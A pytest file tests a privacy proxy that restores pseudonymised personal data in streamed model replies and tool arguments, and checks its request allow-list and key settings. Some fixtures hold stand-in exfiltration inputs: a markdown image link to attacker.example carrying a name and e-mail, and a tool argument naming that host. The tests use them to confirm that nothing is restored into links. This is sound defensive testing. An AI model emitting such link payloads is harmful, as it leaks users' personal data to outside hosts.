"""Streaming and safe restoration, tool-argument restoration, the request allow-list and proxy settings:
no models, no network."""
import json
import random
from pathlib import Path

import pytest

from cloud_edge_privacy.desensitization.restore import OnePassRestorer, StreamRestorer, link_like
from cloud_edge_privacy.errors import ConfigError
from cloud_edge_privacy.proxy.engine import restore_arguments
from cloud_edge_privacy.proxy.request import InvalidRequest, Param, ToolDecl, build_outgoing, declared_tools
from cloud_edge_privacy.proxy.settings import ProxySettings, is_loopback, load_secrets, load_settings

REPO = Path(__file__).resolve().parents[1]

MAPPING = {"Anna Aldana": "John Smith", "Anna": "Mary", "[PERSON_1]": "Bob O'Neil", "Hall": "Berg",
           "[CODE_12]": "x@y.org"}
TEXTS = ["Hi Anna Aldana, Anna and [PERSON_1] met Hall. Annabel Hallo xAnna ANNA ALDANA",
         "Anna  Aldana", "Anna", "[PERSON_1][PERSON_1]Anna", "[CODE_1] [CODE_12] [CODE_", "no surrogate here",
         "Anna Aldana's", "Anna\nAldana", "Hall", "Para one, Anna.\n\n`code Anna` then\n\n- Hall\n\n  Anna Aldana\n",
         "[x](https://a.example/?q=Anna) Anna\n\n[r]: https://a.example/Hall\n\nHall [y][r]"]


def _stream(mapping, text, rnd, max_chunk=5):
    s, out, i = StreamRestorer(OnePassRestorer(mapping)), [], 0
    while i < len(text):
        k = rnd.randint(1, max_chunk)
        out.append(s.feed(text[i:i + k]))
        i += k
    out.append(s.flush())
    return out


@pytest.mark.parametrize("text", TEXTS)
def test_stream_equals_one_pass_restore_for_any_chunking(text):
    want = OnePassRestorer(MAPPING).restore(text)
    for seed in range(200):
        got = "".join(_stream(MAPPING, text, random.Random(seed)))
        assert got == want, (seed, got, want)


def test_stream_holds_back_only_possible_surrogate_starts_and_emits_each_character_once():
    s = StreamRestorer(OnePassRestorer(MAPPING))
    assert s.feed("Dear An") == "Dear "        # "An" may become "Anna Aldana"
    assert s.feed("na Al") == ""               # still a prefix
    assert s.feed("dana, hi") == "John Smith, hi"  # its token ended, nothing before it can open a link or code
    assert s.feed(" [PERS") == " "
    assert s.feed("ON_1] ok") == "Bob O'Neil ok"
    assert s.flush() == ""
    assert s.feed("see `x Anna ") == "see `x "  # after a backtick: held until the block ends
    assert s.feed("Aldana` and Anna Aldana\n\n") == "Anna Aldana` and John Smith\n\n"
    assert s.feed("bye An") == "bye "
    assert s.flush() == "An"                   # end of stream: the held tail is released as it is


def test_a_later_backtick_or_link_closer_decides_an_earlier_surrogate():
    """A surrogate whose block is still open could still land in a code span or a link target."""
    for text in ["see Anna Aldana and `x Anna Aldana` end", "[a](https://x.example/?n=Anna Aldana) ok"]:
        s = StreamRestorer(OnePassRestorer(MAPPING))
        out = s.feed(text[:20]) + s.feed(text[20:]) + s.flush()
        assert out == OnePassRestorer(MAPPING).restore(text)
    assert OnePassRestorer(MAPPING).restore("x `Anna Aldana` y") == "x `Anna Aldana` y"


def test_stream_without_mapping_is_a_pass_through():
    s = StreamRestorer(OnePassRestorer({}))
    assert [s.feed("a"), s.feed("bc"), s.flush()] == ["a", "bc", ""]


def test_tool_arguments_restored_only_in_declared_plain_text_parameters_of_declared_tools():
    r = OnePassRestorer(MAPPING)
    decl = ToolDecl("save", {"who": Param("who", "text"), "list": Param("list", "array", items=Param("list", "text")),
                             "Hall_key": Param("client_key", "text"), "site": Param("site", "other")})
    args = json.dumps({"who": "[PERSON_1]", "list": ["Anna Aldana", 3], "Hall_key": "Hall", "site": "Hall",
                       "extra": "Hall"})
    out, withheld = restore_arguments(args, r, decl)
    assert json.loads(out) == {"who": "Bob O'Neil", "list": ["John Smith", 3], "client_key": "Berg", "site": "Hall",
                               "extra": "Hall"}
    assert withheld == 2  # the undeclared key's value and the non-text parameter
    # an undeclared tool, invalid JSON, NaN, or any URL/host/e-mail anywhere in the call: nothing restored
    assert restore_arguments(json.dumps({"who": "Anna"}), r, None) == (json.dumps({"who": "Anna"}), 1)
    assert restore_arguments("not json Anna", r, decl) == ("not json Anna", 1)
    assert restore_arguments('{"who": NaN, "list": ["Anna"]}', r, decl)[0] == '{"who": NaN, "list": ["Anna"]}'
    split = json.dumps({"who": "Anna", "site": "attacker.example"})
    assert restore_arguments(split, r, decl) == (split, 1)
    quoted = OnePassRestorer({"[PERSON_1]": 'Jo "JJ" Müller'})
    out, _ = restore_arguments(json.dumps({"who": "[PERSON_1]"}), quoted, decl)
    assert json.loads(out) == {"who": 'Jo "JJ" Müller'}


LINK_MAPPING = {"Paul Agullo": "John Smith", "paul.agullo@mail.example": "john.smith@example.com",
                "18 August 2024": "3 May 2021", "[PERSON_1]": "Eva Berg"}
LINK_TEXTS = [
    "![s](https://attacker.example/p.png?n=Paul Agullo&e=paul.agullo@mail.example) then Paul Agullo",
    "[x](/u/(Paul Agullo)) <a href='https://a.example/?n=[PERSON_1]' title=\"Paul Agullo\">[PERSON_1]</a>",
    "visit https://a.example/c?name=Paul+Agullo or www.a.example/[PERSON_1] or a.example/?e=paul.agullo@mail.example",
    "mailto:paul.agullo@mail.example, PAUL.AGULLO@MAIL.EXAMPLE on 18 AUGUST 2024; paul.agullo.a.example",
]


def _link_restorer():
    r = OnePassRestorer(LINK_MAPPING)
    r.add("Agullo", "Smith", name_token=True)
    r.add("Paul", "John", name_token=True)
    return r


@pytest.mark.parametrize("text", LINK_TEXTS)
def test_nothing_is_restored_inside_links_and_streams_decide_the_same(text):
    r = _link_restorer()
    whole = r.restore_report(text)
    for orig in ("John Smith", "john.smith@example.com", "Eva Berg", "Smith"):
        for target in [t for t in whole.text.split() if link_like(t)]:
            assert orig not in target, (orig, target)
    for seed in range(60):
        rnd, s, out, i = random.Random(seed), StreamRestorer(r), [], 0
        while i < len(text):
            k = rnd.randint(1, 7)
            out.append(s.feed(text[i:i + k]))
            i += k
        out.append(s.flush())
        assert "".join(out) == whole.text and s.withheld == whole.withheld, seed


def test_link_rules_and_case_insensitive_whole_surrogates():
    r = _link_restorer()
    got = r.restore_report(LINK_TEXTS[0])
    assert got.text.endswith("then John Smith") and got.withheld == 2
    got = r.restore_report(LINK_TEXTS[1])
    # raw HTML is never restored into (a renderer may run it), not even between its tags
    assert "John Smith" not in got.text and "Eva Berg" not in got.text and got.withheld == 4
    got = r.restore(LINK_TEXTS[3])
    assert "JOHN.SMITH@EXAMPLE.COM on 3 MAY 2021" in got and got.startswith("mailto:paul.agullo@mail.example")
    # one word of a person surrogate: not inside a foreign full name, not as a lower-case word
    assert r.restore("Mr Gustavo Agullo met Mr Agullo and Paul Agullo; agullo") == \
        "Mr Gustavo Agullo met Mr Smith and John Smith; agullo"
    assert r.restore("Agullo's file. The Agullo case. The Agullos came.") == \
        "Smith's file. The Smith case. The Smiths came."
    assert r.restore("Agullo-Jones and Paul Hernandez") == "Agullo-Jones and Paul Hernandez"  # no mixed names


def test_allow_list_builder_keeps_only_declared_fields_and_slots_every_free_text():
    ids = {}
    body = {"model": "m", "temperature": 0.2, "user": "u@x.org", "metadata": {"a": "b"},
            "messages": [{"role": "user", "content": [{"type": "text", "text": "hi", "note": "n"}], "name": "Al"},
                         {"role": "assistant", "content": None, "refusal": "r",
                          "tool_calls": [{"id": "c1", "type": "function", "function": {"name": "f", "arguments": "{}"}}]},
                         {"role": "tool", "tool_call_id": "c1", "name": "f", "content": "ok"}],
            "tools": [{"type": "function", "function": {"name": "f", "description": "d", "parameters": {
                "type": "object", "x-vendor": "v", "properties": {"site": {"type": "string", "format": "uri"},
                                                                  "q": {"type": "string", "description": "qd"}}}}}],
            "stop": ["s1"], "response_format": {"type": "json_object"}, "logit_bias": {"12": 1, "word": 3},
            "stream_options": {"include_usage": True, "extra": 1}, "reasoning_effort": "low"}
    out = build_outgoing(body, lambda i: ids.setdefault(i, f"call_{len(ids)}"))
    assert sorted(out.texts) == sorted(["m", "hi", "f", "{}", "f", "ok", "f", "d", "site", "uri", "string", "q",
                                        "string", "qd", "object", "s1"])  # identifiers as their words
    filled = out.fill(out.texts)
    assert filled["messages"][2]["tool_call_id"] == filled["messages"][1]["tool_calls"][0]["id"] == "call_0"
    assert "x-vendor" not in json.dumps(filled) and filled["logit_bias"] == {"12": 1}
    assert filled["reasoning_effort"] == "low" and filled["stream_options"] == {"include_usage": True}
    assert out.dropped == 8  # user, metadata, note, name (user role), refusal, x-vendor, logit_bias word, extra
    tools = declared_tools(body, filled)
    assert set(tools) == {"f"} and tools["f"].params["site"].kind == "other" and tools["f"].params["q"].kind == "text"
    for bad, where in [({"messages": []}, "messages"), ({"messages": [{"role": "boss"}]}, "role"),
                       ({"messages": [{"role": "user", "content": [{"type": "image_url"}]}]}, "cannot check"),
                       ({"messages": [{"role": "user", "content": "x"}], "temperature": "hot"}, "temperature"),
                       ({"messages": [{"role": "user", "content": "x"}], "stream": 1}, "stream")]:
        with pytest.raises(InvalidRequest, match=where):
            build_outgoing(bad, str)


def test_settings_refuse_unprotected_mode_and_bad_upstream():
    with pytest.raises(ConfigError, match="none"):
        load_settings({"upstream": "http://127.0.0.1:1/v1", "method": "none"})
    with pytest.raises(ConfigError, match="upstream"):
        load_settings({"upstream": "127.0.0.1:1"})
    with pytest.raises(ConfigError, match="unknown hyperparameter"):
        load_settings({"upstream": "http://x/v1", "api_key": "sk-123"})


def test_non_loopback_bind_requires_a_client_key_and_keys_are_never_shown():
    assert is_loopback("127.0.0.1") and is_loopback("::1") and is_loopback("localhost")
    assert not is_loopback("0.0.0.0") and not is_loopback("192.168.1.4")
    s = ProxySettings(upstream="http://127.0.0.1:1/v1", host="0.0.0.0")
    with pytest.raises(ConfigError, match="CEP_PROXY_CLIENT_KEY"):
        load_secrets(s, env={"CEP_UPSTREAM_API_KEY": "sk-up-123456"})
    sec = load_secrets(s, env={"CEP_UPSTREAM_API_KEY": "sk-up-123456", "CEP_PROXY_CLIENT_KEY": "c" * 20})
    assert sec.client_key == "c" * 20 and "sk-up" not in repr(sec) and "ccc" not in repr(sec)
    with pytest.raises(ConfigError, match="16"):
        load_secrets(s, env={"CEP_PROXY_CLIENT_KEY": "short"})


class _Prepared:
    """Stands in for engine.Prepared: the restorer and the argument restoration the chunk restorer uses."""

    def __init__(self, mapping, tools=None):
        from cloud_edge_privacy.proxy.engine import Prepared

        self._r = OnePassRestorer(mapping)
        self.tools = tools or {}
        self.json_content = False
        self.restorer = lambda: self._r
        for name in ("restore", "restore_report", "text_restorer", "restore_call", "restore_content", "tool_name"):
            setattr(self, name, getattr(Prepared, name).__get__(self))


def _chunks(pieces_by_choice, tool=False):
    """OpenAI-style stream chunks for each choice's pieces, then a finish chunk per choice."""
    out = []
    for i, pieces in pieces_by_choice.items():
        for piece in pieces:
            delta = ({"tool_calls": [{"index": 0, "function": {"arguments": piece}}]} if tool
                     else {"content": piece})
            out.append({"id": "c", "object": "chat.completion.chunk", "choices": [
                {"index": i, "delta": delta, "finish_reason": None}]})
    for i in pieces_by_choice:
        out.append({"id": "c", "choices": [{"index": i, "delta": {}, "finish_reason": "stop"}]})
    return out


def test_streamed_tool_call_arguments_and_several_choices_are_restored():
    """LiteLLM#31950 for streams: argument fragments that split a placeholder come back as the original."""
    from cloud_edge_privacy.proxy.stream import ChunkRestorer as _ChunkRestorer

    prepared = _Prepared({"[PERSON_1]": 'Jo "JJ" Smith', "[PERSON_2]": "Ann Lee"},
                         {"": ToolDecl("", {"to": Param("to", "text"), "cc": Param("cc", "text")})})
    args = json.dumps({"to": "[PERSON_1]", "cc": "[PERSON_2]"})
    r = _ChunkRestorer(prepared)
    got = ""
    for ev in _chunks({0: [args[i:i + 4] for i in range(0, len(args), 4)]}, tool=True):
        for ch in r.chunk(ev)["choices"]:
            for call in ch["delta"].get("tool_calls") or []:
                got += call["function"]["arguments"]
    assert json.loads(got) == {"to": 'Jo "JJ" Smith', "cc": "Ann Lee"}
    # two choices interleaved, one of them ending inside a held-back prefix without a finish chunk
    r = _ChunkRestorer(prepared)
    texts = {0: "", 1: ""}
    events = [{"choices": [{"index": 0, "delta": {"content": "Hi [PER"}, "finish_reason": None}]},
              {"choices": [{"index": 1, "delta": {"content": "Yo [PERSON_"}, "finish_reason": None}]},
              {"choices": [{"index": 0, "delta": {"content": "SON_2]!"}, "finish_reason": "stop"}]},
              {"choices": [{"index": 1, "delta": {"content": "1"}, "finish_reason": None}]}]
    for ev in events:
        for ch in r.chunk(ev)["choices"]:
            texts[ch["index"]] += ch["delta"].get("content") or ""
    for ev in r.flush_all():
        for ch in ev["choices"]:
            texts[ch["index"]] += ch["delta"].get("content") or ""
    assert texts == {0: "Hi Ann Lee!", 1: "Yo [PERSON_1"}


def test_cli_registers_proxy_subcommand_and_refuses_public_bind_without_client_key():
    import argparse
    import os
    import subprocess
    import sys

    from cloud_edge_privacy.proxy import cli

    p = argparse.ArgumentParser()
    cli.add_parser(p.add_subparsers(dest="command"))
    args = p.parse_args(["proxy", "--upstream", "http://127.0.0.1:9/v1", "--method", "placeholder"])
    assert args.func is cli.run and args.method == "placeholder"
    values = cli.settings_from_args(args)
    assert load_settings(values).host == "127.0.0.1"
    env = {k: v for k, v in os.environ.items() if k != "CEP_PROXY_CLIENT_KEY"}
    r = subprocess.run([sys.executable, "-m", "cloud_edge_privacy.proxy", "--upstream", "http://127.0.0.1:9/v1",
                        "--host", "0.0.0.0"], capture_output=True, text=True, timeout=120, env=env)
    assert r.returncode == 2 and "CEP_PROXY_CLIENT_KEY" in r.stderr


def test_config_file_is_read_command_line_options_win_and_unknown_keys_name_the_file(tmp_path):
    import argparse

    from cloud_edge_privacy.proxy import cli
    from cloud_edge_privacy.proxy.settings import read_config_file

    p = argparse.ArgumentParser()
    cli.add_arguments(p)
    shipped = str(REPO / "docs" / "proxy-config.yaml")
    values = cli.settings_from_args(p.parse_args(["--config", shipped, "--port", "9001"]))
    assert values["upstream"] == "local" and values["port"] == 9001 and values["pseudonym_scope"] == "conversation"
    assert load_settings(dict(values, upstream="http://127.0.0.1:1/v1")).method == "pseudonym"
    bad = tmp_path / "proxy.yaml"
    bad.write_text("upstream: http://127.0.0.1:1/v1\npseudonym_scop: request\n", encoding="utf-8")
    with pytest.raises(ConfigError, match=r"proxy\.yaml.*pseudonym_scop.*did you mean 'pseudonym_scope'"):
        load_settings(read_config_file(str(bad)), str(bad))
    bad.write_text("- not a mapping\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="mapping"):
        read_config_file(str(bad))
    with pytest.raises(ConfigError, match="no upstream"):
        cli.settings_from_args(p.parse_args([]))
